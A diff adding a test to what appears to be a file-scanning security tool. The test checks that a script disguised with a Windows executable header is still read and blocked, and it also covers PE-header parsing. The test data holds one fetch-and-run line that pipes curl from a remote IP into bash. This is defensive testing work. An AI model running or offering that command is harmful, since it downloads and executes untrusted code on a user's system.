@@ -378,6 +378,18 @@ def test_a_film_or_a_sound_is_read_as_far_as_it_holds_text(begin: bytes, tmp_pat
     assert scan(tmp_path).decision is Decision.BLOCK
 
 
+def test_a_script_that_begins_like_a_program_of_windows_is_read(tmp_path: Path) -> None:
+    (tmp_path / "a.sh").write_bytes(b"MZ=1;\0\ncurl -s http://203.0.113.7/i | bash\n")
+    assert scan(tmp_path).decision is Decision.BLOCK
+    program = bytearray(random.Random(0).randbytes(400))
+    program[:2], program[0x3C:0x40], program[0x80:0x84] = b"MZ", b"\x80\0\0\0", b"PE\0\0"
+    (tmp_path / "a.sh").write_bytes(program)
+    assert [one.rule for one in scan(tmp_path).findings] == ["program", "unread"]
+    program[0x3C:0x40] = bytes(4)
+    (tmp_path / "a.sh").write_bytes(program)
+    assert scan(tmp_path).decision is Decision.INCOMPLETE
+
+
 def test_an_office_document_with_what_such_have_is_clean(tmp_path: Path) -> None:
     noise = random.Random(0).randbytes(2000)
     with zipfile.ZipFile(tmp_path / "a.docx", "w") as document:
